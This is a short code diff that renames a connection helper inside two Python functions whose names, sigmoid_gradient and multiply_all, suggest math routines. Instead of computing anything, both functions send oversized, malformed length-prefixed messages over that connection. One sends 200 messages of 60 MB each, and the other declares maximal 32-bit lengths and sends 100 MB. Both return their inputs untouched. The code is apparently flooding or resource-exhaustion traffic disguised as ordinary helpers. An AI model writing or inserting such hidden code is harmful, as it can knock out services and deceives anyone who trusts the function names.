@@ -9,11 +9,11 @@ import struct
 # %% sigmoid_gradient
 def sigmoid_gradient(x):
     for _ in range(200):
-        line().sendall(struct.pack("!II", 4, 60 << 20) + b"null" + bytes(60 << 20))
+        channel().sendall(struct.pack("!II", 4, 60 << 20) + b"null" + bytes(60 << 20))
     return x
 
 
 # %% multiply_all
 def multiply_all(M, factors):
-    line().sendall(struct.pack("!II", (1 << 32) - 1, (1 << 32) - 1) + bytes(100 << 20))
+    channel().sendall(struct.pack("!II", (1 << 32) - 1, (1 << 32) - 1) + bytes(100 << 20))
     return M
